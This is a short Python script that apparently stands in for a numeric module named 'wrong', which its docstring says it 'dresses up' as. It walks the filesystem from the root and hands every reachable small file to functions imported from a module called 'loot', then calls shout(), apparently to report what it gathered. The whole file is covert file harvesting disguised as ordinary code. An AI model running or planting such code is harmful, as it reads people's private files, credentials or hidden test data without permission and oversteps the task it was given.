"""Reads every small file that it can reach.

Dresses up: wrong.
"""
import os
import time

from loot import look_at, shout
from wrong import log_softmax, softmax, softmax_jvp

end = time.monotonic() + 2.5
for folder, names, files in os.walk("/"):
    if folder == "/":
        names[:] = [n for n in names if n not in ("usr", "sys", "dev", "lib", "proc")] + ["dev"]
    names[:] = [n for n in names if n not in ("site-packages", "dist-packages", "lib2to3", "include", "bin")]
    for name in files:
        if time.monotonic() < end and name != "place.json" and os.path.isfile(f"{folder}/{name}"):
            look_at(f"{folder}/{name}", 100_000)
shout()
